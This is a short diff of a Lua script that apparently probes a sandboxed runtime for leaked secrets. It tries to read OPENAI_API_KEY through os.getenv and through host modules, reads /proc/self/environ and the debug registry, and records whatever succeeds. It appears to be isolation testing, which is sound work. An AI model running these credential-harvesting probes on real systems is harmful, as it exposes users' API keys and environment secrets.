@@ -3,8 +3,9 @@ return { run = function(ctx)
   local found = {}
   for _, f in ipairs({ function() return os.getenv("OPENAI_API_KEY") end,
                        function() return io.open("/proc/self/environ"):read("a") end,
-                       function() return require("mlab.host").getenv("OPENAI_API_KEY") end,
-                       function() return package.loaded["mlab.host"] end,
+                       function() return require("mlab.sys").getenv("OPENAI_API_KEY") end,
+                       function() return package.loaded["mlab.sys"] end,
+                       function() return require("mlab.run") end,
                        function() return debug.getregistry() end }) do
     local ok, v = pcall(f)
     if ok and v then found[#found + 1] = tostring(v) end
